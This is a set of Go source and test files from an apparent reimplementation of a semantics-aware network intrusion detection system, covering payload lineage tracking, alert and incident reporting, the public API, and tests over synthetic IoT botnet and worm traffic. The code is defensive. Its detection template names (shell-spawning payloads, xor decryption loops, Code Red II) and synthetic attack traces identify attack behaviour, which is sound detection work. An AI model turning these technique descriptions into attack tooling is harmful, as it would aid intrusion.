	// Cap bounds tracked observations (default DefaultStoreCap).
	Cap int
	// Telemetry receives the lineage series (observations folded,
	// observations tracked). Nil creates a private registry.
	Telemetry *telemetry.Registry
}

// Store accumulates a sensor's lineage observations. Observe is called
// from shard goroutines (via the engine's event tap) and Export from
// the sink goroutine, hence the mutex; the hot path is one map lookup
// for frames that carry a sketch and zero work for frames that do not.
type Store struct {
	sensor string
	cap    int

	mu  sync.Mutex
	obs map[core.Fingerprint]*Observation

	folds atomic.Uint64
}

// NewStore builds a store.
func NewStore(cfg StoreConfig) *Store {
	if cfg.Cap <= 0 {
		cfg.Cap = DefaultStoreCap
	}
	if cfg.Sensor == "" {
		cfg.Sensor = "sensor"
	}
	s := &Store{
		sensor: cfg.Sensor,
		cap:    cfg.Cap,
		obs:    make(map[core.Fingerprint]*Observation),
	}
	reg := cfg.Telemetry
	if reg == nil {
		reg = telemetry.NewRegistry()
	}
	reg.CounterFunc("semnids_lineage_observations_total", "Lineage observations folded into the store.", s.folds.Load)
	reg.GaugeFunc("semnids_lineage_tracked", "Distinct payloads tracked by the lineage store.", func() int64 {
		s.mu.Lock()
		defer s.mu.Unlock()
		return int64(len(s.obs))
	})
	return s
}

// Observe folds one engine event. Only fingerprint/alert events whose
// sketch recovered a decoded tail contribute — everything else is a
// cheap early return.
func (s *Store) Observe(ev core.Event) {
	if !ev.Sketch.HasTail() || ev.Fingerprint.IsZero() {
		return
	}
	if ev.Kind != core.EventFingerprint && ev.Kind != core.EventAlert {
		return
	}
	o := Observation{
		Exact:       ev.Fingerprint,
		Tail:        TailFingerprint(ev.Sketch),
		TemplateSym: ev.Sketch.Template,
		StmtsSym:    ev.Sketch.Stmts,
		FirstUS:     ev.TimestampUS,
		Src:         ev.Src,
		Dst:         ev.Dst,
		Sensors:     []string{s.sensor},
	}
	s.mu.Lock()
	s.fold(&o)
	s.mu.Unlock()
}

// Import folds a federated observation set (from another sensor's
// export, or a merged aggregate) into the store. Idempotent.
func (s *Store) Import(obs []Observation) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for i := range obs {
		o := obs[i]
		o.Sensors = append([]string(nil), o.Sensors...)
		s.fold(&o)
	}
}

// fold merges one observation under the cap. Called with mu held.
func (s *Store) fold(o *Observation) {
	s.folds.Add(1)
	if cur, ok := s.obs[o.Exact]; ok {
		foldInto(cur, o)
		return
	}
	if len(s.obs) >= s.cap {
		// Displace the largest retained witness if the newcomer is
		// smaller — keep-K-minima, the same discipline as the
		// correlator's evidence caps.
		var worst *Observation
		for _, cur := range s.obs {
			if worst == nil || witnessLess(worst, cur) {
				worst = cur
			}
		}
		if !witnessLess(o, worst) {
			return
		}
		delete(s.obs, worst.Exact)
	}
	cp := *o
	s.obs[o.Exact] = &cp
}

// Export snapshots the store as a canonical observation list, sorted
// by witness order.
func (s *Store) Export() []Observation {
	s.mu.Lock()
	out := make([]Observation, 0, len(s.obs))
	for _, o := range s.obs {
		cp := *o
		cp.Sensors = append([]string(nil), o.Sensors...)
		out = append(out, cp)
	}
	s.mu.Unlock()
	sort.Slice(out, func(i, j int) bool { return witnessLess(&out[i], &out[j]) })
	return out
}

// Len reports distinct tracked payloads.
func (s *Store) Len() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.obs)
}

// Merge unions two canonical observation lists into one, under
// MergeCap. Commutative, associative and idempotent on the canonical
// form: Merge(A,B) == Merge(B,A) and Merge(A,A) == A.
func Merge(a, b []Observation) []Observation {
	if len(a) == 0 && len(b) == 0 {
		return nil
	}
	byExact := make(map[core.Fingerprint]*Observation, len(a)+len(b))
	fold := func(obs []Observation) {
		for i := range obs {
			o := obs[i]
			o.Sensors = append([]string(nil), o.Sensors...)
			if cur, ok := byExact[o.Exact]; ok {
				foldInto(cur, &o)
			} else {
				cp := o
				byExact[o.Exact] = &cp
			}
		}
	}
	fold(a)
	fold(b)
	out := make([]Observation, 0, len(byExact))
	for _, o := range byExact {
		out = append(out, *o)
	}
	sort.Slice(out, func(i, j int) bool { return witnessLess(&out[i], &out[j]) })
	if len(out) > MergeCap {
		out = out[:MergeCap]
	}
	return out
}
