// Package report renders NIDS alerts for operators: line-oriented
// text, machine-readable JSON, and per-source incident aggregation
// (the paper notes that "further action may be taken against the
// offending IP address" — this is the module that decides which
// addresses those are).
package report

import (
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strings"

	"semnids/internal/core"
	"semnids/internal/incident"
)

// JSONAlert is the serialized form of one alert.
type JSONAlert struct {
	TimestampUS uint64            `json:"ts_us"`
	Src         string            `json:"src"`
	SrcPort     uint16            `json:"src_port"`
	Dst         string            `json:"dst"`
	DstPort     uint16            `json:"dst_port"`
	Template    string            `json:"template"`
	Severity    string            `json:"severity"`
	Description string            `json:"description"`
	Reason      string            `json:"classifier_reason"`
	FrameSource string            `json:"frame_source"`
	Bindings    map[string]string `json:"bindings,omitempty"`
	Offsets     []int             `json:"match_offsets,omitempty"`
}

// ToJSON converts an alert.
func ToJSON(a core.Alert) JSONAlert {
	return JSONAlert{
		TimestampUS: a.TimestampUS,
		Src:         a.Src.String(),
		SrcPort:     a.SrcPort,
		Dst:         a.Dst.String(),
		DstPort:     a.DstPort,
		Template:    a.Detection.Template,
		Severity:    a.Detection.Severity,
		Description: a.Detection.Description,
		Reason:      string(a.Reason),
		FrameSource: a.FrameSource,
		Bindings:    a.Detection.Bindings,
		Offsets:     a.Detection.Addrs,
	}
}

// WriteJSON emits one JSON object per line (JSONL).
func WriteJSON(w io.Writer, alerts []core.Alert) error {
	enc := json.NewEncoder(w)
	for _, a := range alerts {
		if err := enc.Encode(ToJSON(a)); err != nil {
			return err
		}
	}
	return nil
}

// Incident aggregates every alert attributed to one source address.
type Incident struct {
	Src       string
	Alerts    int
	Templates []string // sorted, deduplicated
	Severity  string   // highest severity seen
	FirstUS   uint64
	LastUS    uint64
}

// severityRank aliases the pipeline-wide ranking (core.SeverityRank).
var severityRank = core.SeverityRank

// Aggregate groups alerts into per-source incidents, ordered by
// severity (descending) then source address.
func Aggregate(alerts []core.Alert) []Incident {
	bySrc := make(map[string]*Incident)
	tpls := make(map[string]map[string]bool)
	for _, a := range alerts {
		src := a.Src.String()
		inc := bySrc[src]
		if inc == nil {
			inc = &Incident{Src: src, FirstUS: a.TimestampUS, LastUS: a.TimestampUS}
			bySrc[src] = inc
			tpls[src] = make(map[string]bool)
		}
		inc.Alerts++
		tpls[src][a.Detection.Template] = true
		if a.TimestampUS < inc.FirstUS {
			inc.FirstUS = a.TimestampUS
		}
		if a.TimestampUS > inc.LastUS {
			inc.LastUS = a.TimestampUS
		}
		if severityRank[a.Detection.Severity] > severityRank[inc.Severity] {
			inc.Severity = a.Detection.Severity
		}
	}
	out := make([]Incident, 0, len(bySrc))
	for src, inc := range bySrc {
		for tname := range tpls[src] {
			inc.Templates = append(inc.Templates, tname)
		}
		sort.Strings(inc.Templates)
		out = append(out, *inc)
	}
	sort.Slice(out, func(i, j int) bool {
		if severityRank[out[i].Severity] != severityRank[out[j].Severity] {
			return severityRank[out[i].Severity] > severityRank[out[j].Severity]
		}
		return out[i].Src < out[j].Src
	})
	return out
}

// JSONTransition is the serialized form of one kill-chain transition.
type JSONTransition struct {
	Stage string `json:"stage"`
	AtUS  uint64 `json:"at_us"`
}

// JSONTimelineEvent is the serialized form of one incident timeline
// entry. AtUS is trace-time µs for derived pipeline events and Unix
// µs for wall-clock annotations (wall true), matching
// incident.TimelineEvent.
type JSONTimelineEvent struct {
	Kind string `json:"kind"`
	AtUS uint64 `json:"at_us"`
	Wall bool   `json:"wall,omitempty"`
}

// JSONIncident is the serialized form of one correlated incident.
type JSONIncident struct {
	Src          string              `json:"src"`
	Stage        string              `json:"stage"`
	Severity     string              `json:"severity"`
	FirstUS      uint64              `json:"first_us"`
	LastUS       uint64              `json:"last_us"`
	Destinations int                 `json:"destinations"`
	Alerts       int                 `json:"alerts"`
	Templates    []string            `json:"templates,omitempty"`
	Victims      []string            `json:"victims,omitempty"`
	Transitions  []JSONTransition    `json:"transitions,omitempty"`
	Timeline     []JSONTimelineEvent `json:"timeline,omitempty"`
}

// ToJSONIncident converts an incident.
func ToJSONIncident(inc incident.Incident) JSONIncident {
	out := JSONIncident{
		Src:          inc.Src.String(),
		Stage:        inc.Stage.String(),
		Severity:     inc.Severity,
		FirstUS:      inc.FirstUS,
		LastUS:       inc.LastUS,
		Destinations: inc.Destinations,
		Alerts:       inc.Alerts,
		Templates:    inc.Templates,
		Victims:      inc.Victims,
	}
	for _, t := range inc.Transitions {
		out.Transitions = append(out.Transitions, JSONTransition{Stage: t.Stage.String(), AtUS: t.AtUS})
	}
	for _, ev := range inc.Timeline {
		out.Timeline = append(out.Timeline, JSONTimelineEvent{Kind: ev.Kind, AtUS: ev.AtUS, Wall: ev.Wall})
	}
	return out
}

// WriteIncidentsJSON emits one JSON object per correlated incident
// (JSONL), mirroring WriteJSON for alerts.
func WriteIncidentsJSON(w io.Writer, incidents []incident.Incident) error {
	enc := json.NewEncoder(w)
	for _, inc := range incidents {
		if err := enc.Encode(ToJSONIncident(inc)); err != nil {
			return err
		}
	}
	return nil
}

// WriteIncidents renders the live correlator's incident table — the
// kill-chain view (stage, propagation victims) the streaming engine
// maintains while traffic flows, alongside the batch per-alert
// summary of WriteSummary.
func WriteIncidents(w io.Writer, incidents []incident.Incident) error {
	if len(incidents) == 0 {
		_, err := fmt.Fprintln(w, "no correlated incidents")
		return err
	}
	if _, err := fmt.Fprintf(w, "%-16s %-12s %-9s %-7s %-6s %-24s %s\n",
		"source", "stage", "severity", "alerts", "dests", "behaviors", "victims"); err != nil {
		return err
	}
	for _, inc := range incidents {
		if _, err := fmt.Fprintf(w, "%-16s %-12s %-9s %-7d %-6d %-24s %s\n",
			inc.Src, inc.Stage, inc.Severity, inc.Alerts, inc.Destinations,
			strings.Join(inc.Templates, ","), strings.Join(inc.Victims, ",")); err != nil {
			return err
		}
	}
	return nil
}

// WriteSummary renders an operator-facing incident table.
func WriteSummary(w io.Writer, alerts []core.Alert) error {
	incidents := Aggregate(alerts)
	if len(incidents) == 0 {
		_, err := fmt.Fprintln(w, "no incidents")
		return err
	}
	if _, err := fmt.Fprintf(w, "%-16s %-9s %-7s %s\n", "source", "severity", "alerts", "behaviors"); err != nil {
		return err
	}
	for _, inc := range incidents {
		if _, err := fmt.Fprintf(w, "%-16s %-9s %-7d %s\n",
			inc.Src, inc.Severity, inc.Alerts, strings.Join(inc.Templates, ", ")); err != nil {
			return err
		}
	}
	return nil
}
