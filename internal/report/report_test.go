package report

import (
	"bytes"
	"encoding/json"
	"net/netip"
	"strings"
	"testing"

	"semnids/internal/classify"
	"semnids/internal/core"
	"semnids/internal/sem"
)

func alert(src string, tpl, sev string, ts uint64) core.Alert {
	return core.Alert{
		TimestampUS: ts,
		Src:         netip.MustParseAddr(src),
		Dst:         netip.MustParseAddr("192.168.1.10"),
		SrcPort:     1234, DstPort: 80,
		Reason: classify.ReasonHoneypot,
		Detection: sem.Detection{
			Template: tpl, Severity: sev,
			Bindings: map[string]string{"A": "eax"},
			Addrs:    []int{1, 2},
		},
		FrameSource: "http-url",
	}
}

func TestWriteJSON(t *testing.T) {
	var buf bytes.Buffer
	alerts := []core.Alert{
		alert("10.0.0.1", "xor-decrypt-loop", "high", 100),
		alert("10.0.0.2", "linux-shell-spawn", "critical", 200),
	}
	if err := WriteJSON(&buf, alerts); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 2 {
		t.Fatalf("%d JSONL lines, want 2", len(lines))
	}
	var ja JSONAlert
	if err := json.Unmarshal([]byte(lines[0]), &ja); err != nil {
		t.Fatal(err)
	}
	if ja.Src != "10.0.0.1" || ja.Template != "xor-decrypt-loop" ||
		ja.Bindings["A"] != "eax" || len(ja.Offsets) != 2 {
		t.Errorf("json alert: %+v", ja)
	}
}

func TestAggregate(t *testing.T) {
	alerts := []core.Alert{
		alert("10.0.0.1", "xor-decrypt-loop", "high", 300),
		alert("10.0.0.1", "return-address-region", "medium", 100),
		alert("10.0.0.1", "xor-decrypt-loop", "high", 200),
		alert("10.0.0.2", "linux-shell-spawn", "critical", 50),
	}
	incs := Aggregate(alerts)
	if len(incs) != 2 {
		t.Fatalf("%d incidents, want 2", len(incs))
	}
	// Critical first.
	if incs[0].Src != "10.0.0.2" || incs[0].Severity != "critical" {
		t.Errorf("first incident: %+v", incs[0])
	}
	one := incs[1]
	if one.Alerts != 3 || one.FirstUS != 100 || one.LastUS != 300 {
		t.Errorf("aggregation: %+v", one)
	}
	if len(one.Templates) != 2 || one.Templates[0] != "return-address-region" {
		t.Errorf("templates: %v", one.Templates)
	}
}

func TestWriteSummary(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteSummary(&buf, nil); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "no incidents") {
		t.Errorf("empty summary: %q", buf.String())
	}
	buf.Reset()
	if err := WriteSummary(&buf, []core.Alert{
		alert("10.0.0.9", "code-red-ii", "critical", 1),
	}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "10.0.0.9") || !strings.Contains(buf.String(), "code-red-ii") {
		t.Errorf("summary: %q", buf.String())
	}
}
