package report

import (
	"encoding/json"
	"fmt"
	"io"

	"semnids/internal/lineage"
)

// WriteAncestry renders reconstructed infection trees for operators:
// one block per tree, headed by the payload family's decoded-tail
// fingerprint, with the host tree indented two spaces per generation.
// The forest is already deterministic (lineage.Trace), so the text is
// byte-stable across shard counts and federation order.
func WriteAncestry(w io.Writer, trees []lineage.Tree) error {
	if len(trees) == 0 {
		_, err := fmt.Fprintln(w, "no ancestry")
		return err
	}
	for _, t := range trees {
		if _, err := fmt.Fprintf(w, "family tail=%016x%016x hosts=%d depth=%d\n",
			t.Tail.A, t.Tail.B, t.Nodes, t.MaxDepth); err != nil {
			return err
		}
		if err := writeAncestryNode(w, t.Root, 1); err != nil {
			return err
		}
	}
	return nil
}

func writeAncestryNode(w io.Writer, n lineage.TreeNode, depth int) error {
	indent := make([]byte, 2*depth)
	for i := range indent {
		indent[i] = ' '
	}
	if n.Confidence == 0 {
		// Root: patient zero, witnessed only as an emitter.
		if _, err := fmt.Fprintf(w, "%s%s t=%dus (patient zero)\n",
			indent, n.Host, n.InfectedAtUS); err != nil {
			return err
		}
	} else {
		if _, err := fmt.Fprintf(w, "%s%s t=%dus conf=%.2f via=%016x%016x\n",
			indent, n.Host, n.InfectedAtUS, n.Confidence, n.Via.A, n.Via.B); err != nil {
			return err
		}
	}
	for _, c := range n.Children {
		if err := writeAncestryNode(w, c, depth+1); err != nil {
			return err
		}
	}
	return nil
}

// WriteAncestryJSON emits one JSON object per infection tree (JSONL),
// mirroring WriteIncidentsJSON. The lineage types carry their own JSON
// tags, so the wire shape is the tracer's canonical one.
func WriteAncestryJSON(w io.Writer, trees []lineage.Tree) error {
	enc := json.NewEncoder(w)
	for _, t := range trees {
		if err := enc.Encode(t); err != nil {
			return err
		}
	}
	return nil
}
