package nids

import (
	"bytes"
	"testing"

	"semnids/internal/netpkt"
	"semnids/internal/report"
	"semnids/internal/traffic"
)

// iotEngine builds a correlated engine over the standard test network,
// with datagram flows toggled.
func iotEngine(t *testing.T, shards int, dgramFlows bool) *Engine {
	t.Helper()
	e, err := NewEngine(EngineConfig{
		Config: Config{
			Honeypots: []string{traffic.HoneypotAddr.String()},
			DarkSpace: []string{traffic.DarkNet.String()},
		},
		Shards:        shards,
		Correlate:     true,
		DatagramFlows: dgramFlows,
	})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// TestIoTBotnetRequiresDatagramFlows is the datagram acceptance case:
// an IoT botnet delivers its xor-encoded exploit as 16-byte CoAP
// Block1 datagrams. Per-packet analysis provably misses — no datagram
// holds the complete decoder loop — while the datagram-flow engine
// reassembles the transfer, matches the decryption-loop template, and
// correlates the outbreak into a full kill chain ending in
// PROPAGATION when victims re-spray the same bytes.
func TestIoTBotnetRequiresDatagramFlows(t *testing.T) {
	pkts := traffic.IoTBotnet(traffic.IoTSpec{Seed: 7})

	hasDecodeLoop := func(alerts []Alert) bool {
		for _, a := range alerts {
			if a.Detection.Template == "xor-decrypt-loop" {
				return true
			}
		}
		return false
	}

	// Per-packet baseline: the deliveries are invisible, so no source
	// can climb past RECON (the dark-space probes still register).
	off := iotEngine(t, 4, false)
	for _, p := range pkts {
		off.Process(clonePacket(p))
	}
	off.Stop()
	if hasDecodeLoop(off.Alerts()) {
		t.Fatal("per-packet analysis matched the block-split decoder; the payload no longer proves the need for datagram flows")
	}
	for _, inc := range off.Incidents() {
		if inc.Stage == StageExploit || inc.Stage == StagePropagation {
			t.Fatalf("per-packet incident reached %v without any detectable delivery", inc.Stage)
		}
	}

	// Datagram flows on: reassembled transfers expose the decoder.
	on := iotEngine(t, 4, true)
	for _, p := range pkts {
		on.Process(clonePacket(p))
	}
	on.Stop()
	if !hasDecodeLoop(on.Alerts()) {
		t.Fatal("datagram-flow engine did not match the decryption loop on the reassembled transfer")
	}
	var propagated []Incident
	for _, inc := range on.Incidents() {
		if inc.Stage == StagePropagation {
			propagated = append(propagated, inc)
		}
	}
	if len(propagated) == 0 {
		t.Fatalf("no IoT incident reached PROPAGATION: %v", on.Incidents())
	}
	for _, inc := range propagated {
		stages := map[IncidentStage]bool{}
		for _, tr := range inc.Transitions {
			stages[tr.Stage] = true
		}
		if !stages[StageRecon] || !stages[StageExploit] {
			t.Errorf("propagating IoT incident missing kill-chain stages: %v", inc.Transitions)
		}
	}
}

// TestIoTIncidentDeterminismAcrossShards extends the correlator's
// byte-determinism invariant to datagram flows: the rendered incident
// output over the IoT outbreak is byte-identical at every shard count
// (conversation-canonical dispatch keeps each exchange on one shard).
func TestIoTIncidentDeterminismAcrossShards(t *testing.T) {
	pkts := traffic.IoTBotnet(traffic.IoTSpec{Seed: 11, Generations: 2})
	var want string
	for _, shards := range []int{1, 2, 4} {
		e := iotEngine(t, shards, true)
		for _, p := range pkts {
			e.Process(clonePacket(p))
		}
		e.Stop()
		got := renderIncidents(t, e)
		if shards == 1 {
			want = got
			if got == "no correlated incidents\n" {
				t.Fatal("baseline IoT run produced no incidents")
			}
			continue
		}
		if got != want {
			t.Errorf("IoT incident set diverged at shards=%d\n got:\n%s\nwant:\n%s", shards, got, want)
		}
	}
}

// TestDatagramFlowsOffSuiteByteIdentical pins the feature flag's blast
// radius: over the existing suite traces (TCP exploits, single-datagram
// UDP), every rendered report — alerts and incidents — is
// byte-identical with datagram flows on and off. Only multi-datagram
// UDP payload conversations may ever read differently.
func TestDatagramFlowsOffSuiteByteIdentical(t *testing.T) {
	traces := map[string][]*netpkt.Packet{
		"paper-table3": traffic.Synthesize(traffic.TraceSpec{
			Seed: 11, BenignSessions: 60, CodeRedInstances: 3,
		}),
		"worm-outbreak": traffic.WormOutbreak(traffic.WormSpec{
			Seed: 7, Generations: 2, FanoutPerHost: 2,
		}),
	}
	render := func(pkts []*netpkt.Packet, dgramFlows bool) string {
		e := iotEngine(t, 2, dgramFlows)
		for _, p := range pkts {
			e.Process(clonePacket(p))
		}
		e.Stop()
		var buf bytes.Buffer
		if err := report.WriteJSON(&buf, e.Alerts()); err != nil {
			t.Fatal(err)
		}
		buf.WriteString(renderIncidents(t, e))
		return buf.String()
	}
	for name, pkts := range traces {
		off := render(pkts, false)
		on := render(pkts, true)
		if off != on {
			t.Errorf("%s: datagram flows changed the report without any multi-datagram UDP conversation\noff:\n%s\non:\n%s",
				name, off, on)
		}
		if off == "" {
			t.Errorf("%s: empty report", name)
		}
	}
}
