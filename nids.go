// Package nids is the public API of semnids, a from-scratch Go
// reproduction of the semantics-aware network intrusion detection
// system of Scheirer & Chuah, "Network Intrusion Detection with
// Semantics-Aware Capability" (IPPS 2006).
//
// The system segregates suspicious traffic from the regular flow
// (honeypot decoys and dark-address-space scan detection), extracts
// binary data from suspicious payloads, disassembles it, lifts it to
// an intermediate representation, and matches behavioral templates —
// detecting polymorphic decryption loops, Linux shell-spawning
// payloads (including port-binding shells), and the Code Red II
// exploitation vector without any reliance on static byte signatures.
//
// Quick start:
//
//	detector, err := nids.New(nids.Config{
//		Honeypots: []string{"192.168.1.250"},
//		DarkSpace: []string{"192.168.2.0/24"},
//	})
//	...
//	detector.ProcessFrame(ethernetFrame, timestampMicros)
//	detector.Flush()
//	for _, alert := range detector.Alerts() { ... }
package nids

import (
	"fmt"
	"io"
	"net/netip"
	"strings"
	"sync/atomic"
	"time"

	"semnids/internal/classify"
	"semnids/internal/core"
	"semnids/internal/engine"
	"semnids/internal/fed"
	"semnids/internal/incident"
	"semnids/internal/netpkt"
	"semnids/internal/sem"
)

// Alert is one detection event attributed to a network flow.
type Alert = core.Alert

// Detection describes the matched template within an alert.
type Detection = sem.Detection

// Metrics reports pipeline counters.
type Metrics = core.Metrics

// Config configures a detector.
type Config struct {
	// Honeypots lists decoy host addresses (e.g. "192.168.1.250").
	// Any source sending traffic to a decoy becomes suspicious.
	Honeypots []string

	// DarkSpace lists un-used CIDR prefixes (e.g. "192.168.2.0/24").
	// A source probing ScanThreshold distinct dark addresses becomes
	// suspicious.
	DarkSpace []string

	// ScanThreshold is the dark-space threshold t (default 3).
	ScanThreshold int

	// DisableClassification analyzes every packet payload (the
	// paper's Section 5.4 false-positive experiment configuration).
	DisableClassification bool

	// FullScan additionally disables binary extraction pruning and
	// widens disassembly offsets — the exhaustive whole-input
	// baseline used for efficiency comparisons.
	FullScan bool

	// Workers sets the analysis worker pool size (default: number of
	// CPUs).
	Workers int

	// XorTemplateOnly restricts the template set to the xor
	// decryption template (the paper's first Table 2 configuration).
	XorTemplateOnly bool

	// TemplatesDSL, when non-empty, replaces the built-in template
	// set with templates parsed from the text format (see
	// internal/sem's DSL documentation). Lets operators describe new
	// behaviors without recompiling.
	TemplatesDSL string

	// OnAlert, when non-nil, is invoked for each alert as it fires
	// (from worker goroutines).
	OnAlert func(Alert)
}

// NIDS is a running detector instance. Feed packets from one
// goroutine; analysis runs concurrently inside.
type NIDS struct {
	inner *core.NIDS
}

// pipeline translates the public configuration into the classifier
// config and template set shared by the batch detector and the
// streaming engine.
func (cfg Config) pipeline() (classify.Config, []*sem.Template, error) {
	var ccfg classify.Config
	for _, h := range cfg.Honeypots {
		a, err := netip.ParseAddr(h)
		if err != nil {
			return ccfg, nil, fmt.Errorf("nids: bad honeypot address %q: %w", h, err)
		}
		ccfg.Honeypots = append(ccfg.Honeypots, a)
	}
	for _, d := range cfg.DarkSpace {
		p, err := netip.ParsePrefix(d)
		if err != nil {
			return ccfg, nil, fmt.Errorf("nids: bad dark-space prefix %q: %w", d, err)
		}
		ccfg.DarkSpace = append(ccfg.DarkSpace, p)
	}
	ccfg.ScanThreshold = cfg.ScanThreshold
	ccfg.Disabled = cfg.DisableClassification

	tpls := sem.BuiltinTemplates()
	if cfg.XorTemplateOnly {
		tpls = sem.XorOnlyTemplates()
	}
	if cfg.TemplatesDSL != "" {
		parsed, err := sem.ParseTemplates(strings.NewReader(cfg.TemplatesDSL))
		if err != nil {
			return ccfg, nil, fmt.Errorf("nids: templates: %w", err)
		}
		tpls = parsed
	}
	return ccfg, tpls, nil
}

// New validates the configuration and starts a detector.
func New(cfg Config) (*NIDS, error) {
	ccfg, tpls, err := cfg.pipeline()
	if err != nil {
		return nil, err
	}
	inner := core.New(core.Config{
		Classify:  ccfg,
		Templates: tpls,
		Workers:   cfg.Workers,
		FullScan:  cfg.FullScan,
		OnAlert:   cfg.OnAlert,
	})
	return &NIDS{inner: inner}, nil
}

// ProcessFrame feeds one raw Ethernet frame with its capture timestamp
// (microseconds). Unparseable frames are ignored and reported as an
// error without stopping the detector.
func (n *NIDS) ProcessFrame(frame []byte, tsUS uint64) error {
	p, err := netpkt.Parse(frame)
	if err != nil {
		return err
	}
	p.TimestampUS = tsUS
	n.inner.ProcessPacket(p)
	return nil
}

// ProcessPcap runs the detector over a classic-format pcap stream and
// flushes.
func (n *NIDS) ProcessPcap(r io.Reader) error {
	return n.inner.ProcessPcap(r)
}

// Flush analyzes unfinished flows and drains the worker pool. The
// detector cannot be fed after Flush.
func (n *NIDS) Flush() { n.inner.Flush() }

// Alerts returns the alerts recorded so far (complete after Flush).
func (n *NIDS) Alerts() []Alert { return n.inner.Alerts() }

// Stats returns pipeline counters.
func (n *NIDS) Stats() Metrics { return n.inner.Snapshot() }

// AnalyzeBytes runs only the semantic stages (disassembler, IR,
// template matcher) over a binary — the host-scan mode used for
// on-disk samples such as the Netsky binaries in the paper's
// efficiency comparison.
func AnalyzeBytes(data []byte) []Detection {
	return core.AnalyzeBytes(data, nil, nil)
}

// AnalyzePayload runs extraction plus the semantic stages over one
// application-layer payload, returning the union of detections.
func AnalyzePayload(payload []byte) []Detection {
	return core.AnalyzePayload(payload)
}

// EngineMetrics reports streaming-engine counters and gauges.
type EngineMetrics = engine.Metrics

// EngineConfig configures a streaming Engine: the detector settings
// plus the sharding, lifecycle and overload knobs. Config.Workers is
// ignored — the shards are the workers.
type EngineConfig struct {
	Config

	// Shards is the number of ingest shards, each owning its slice of
	// the flow space (default: number of CPUs).
	Shards int

	// QueueDepth bounds each shard's packet queue (default 1024).
	QueueDepth int

	// ShedOnOverload drops packets (counted in EngineMetrics.Dropped)
	// when a shard queue is full instead of blocking ingestion.
	ShedOnOverload bool

	// FlowIdleTimeout evicts flows idle for this long in trace time,
	// analyzing their unfinished tail first (default 60s).
	FlowIdleTimeout time.Duration

	// FlowByteBudget caps reassembly buffering per shard; LRU flows
	// beyond it are tail-analyzed and evicted (default 64 MiB).
	FlowByteBudget int

	// VerdictCacheSize is the payload-fingerprint verdict cache
	// capacity in entries (0 = default 8192, negative disables).
	VerdictCacheSize int

	// Correlate attaches the streaming incident correlator: shard
	// events feed per-source kill-chain state machines
	// (RECON → EXPLOIT → PROPAGATION), readable live via Incidents
	// and SubscribeIncidents.
	Correlate bool

	// IncidentWindow is the sliding trace-time window for the
	// correlator's destination fan-out (default 30s).
	IncidentWindow time.Duration

	// IncidentFanout is the distinct-destination count inside the
	// window that establishes RECON (default 3).
	IncidentFanout int

	// MaxIncidentSources caps the correlator's tracked sources;
	// least-recently-active sources beyond it are finalized and
	// evicted (default 65536).
	MaxIncidentSources int

	// OnIncident, when non-nil, is invoked from the correlator
	// goroutine each time a source's kill-chain stage rises. It runs
	// with correlator state locked: it must not call back into the
	// engine's incident surface (Incidents, IncidentStats,
	// SubscribeIncidents) or it will deadlock — use SubscribeIncidents
	// for a decoupled feed instead.
	OnIncident func(Incident)

	// SensorID names this engine in exported incident evidence
	// (cross-sensor federation provenance; default "sensor"). Give
	// every sensor in a federation a distinct ID.
	SensorID string

	// IncidentExportDir, when non-empty (and Correlate is set),
	// attaches a durable evidence sink: the correlator's evidence is
	// checkpointed to size/age-rotated segment files in this directory
	// — non-blocking from the notify path, plus a periodic safety
	// net — and on startup the newest complete segment is reloaded, so
	// a restarted sensor resumes with its attacker state intact.
	IncidentExportDir string

	// IncidentExportRotateBytes / IncidentExportRotateEvery /
	// IncidentCheckpointEvery tune the sink's segment rotation and
	// periodic checkpoint cadence (defaults 1 MiB / 1m / 10s).
	IncidentExportRotateBytes int64
	IncidentExportRotateEvery time.Duration
	IncidentCheckpointEvery   time.Duration
}

// Incident is one source's correlated kill-chain activity.
type Incident = incident.Incident

// IncidentStage is a kill-chain position (RECON, EXPLOIT,
// PROPAGATION).
type IncidentStage = incident.Stage

// Kill-chain stages, re-exported for switch statements on
// Incident.Stage.
const (
	StageNone        = incident.StageNone
	StageRecon       = incident.StageRecon
	StageExploit     = incident.StageExploit
	StagePropagation = incident.StagePropagation
)

// IncidentMetrics reports correlator counters and gauges.
type IncidentMetrics = incident.Metrics

// EvidenceExport is a sensor's (or a merge's) incident evidence
// snapshot — the unit of cross-sensor federation.
type EvidenceExport = incident.EvidenceExport

// SinkMetrics reports durable evidence-sink counters.
type SinkMetrics = fed.SinkMetrics

// MergeEvidence federates two evidence exports: commutative,
// idempotent, provenance-preserving. See fed.Merge.
func MergeEvidence(a, b *EvidenceExport) (*EvidenceExport, error) { return fed.Merge(a, b) }

// ReadEvidence decodes an evidence export from the versioned wire
// format (the newest committed checkpoint, for sink segments).
func ReadEvidence(r io.Reader) (*EvidenceExport, error) { return fed.ReadExport(r) }

// WriteEvidence encodes an evidence export in the versioned wire
// format.
func WriteEvidence(w io.Writer, ex *EvidenceExport) error { return fed.WriteExport(w, ex) }

// DeriveIncidents renders an evidence export's incident set exactly
// as a live correlator holding the same evidence would. Errors on an
// export with unusable correlation parameters (hand-built; decoded
// exports are validated at read time).
func DeriveIncidents(ex *EvidenceExport) ([]Incident, error) { return incident.DeriveIncidents(ex) }

// Engine is a continuously-running streaming detector: sharded
// ingestion, bounded flow state with eviction, and verdict caching.
// Unlike NIDS, it survives beyond a single trace — Drain flushes
// in-progress flows and keeps it live; only Stop terminates it. Feed
// from one goroutine; ProcessFrame and Flush are drop-in compatible
// with the batch NIDS surface.
type Engine struct {
	inner *engine.Engine
	corr  *incident.Correlator

	// sink persists correlator evidence when IncidentExportDir is
	// configured. Set once late in NewEngine and read from the
	// correlator goroutine's notify hook, hence the atomic: the
	// correlator must exist first (the sink snapshots it and recovery
	// imports into it).
	sink   atomic.Pointer[fed.Sink]
	sensor string

	// pool recycles packet structs and payload buffers across every
	// trace fed through Run/Replay — one pool for the engine's
	// lifetime, so back-to-back traces reuse warm buffers.
	pool *netpkt.PacketPool
}

// NewEngine validates the configuration and starts a streaming
// engine (and, with Correlate set, its incident correlator).
func NewEngine(cfg EngineConfig) (*Engine, error) {
	ccfg, tpls, err := cfg.Config.pipeline()
	if err != nil {
		return nil, err
	}
	ecfg := engine.Config{
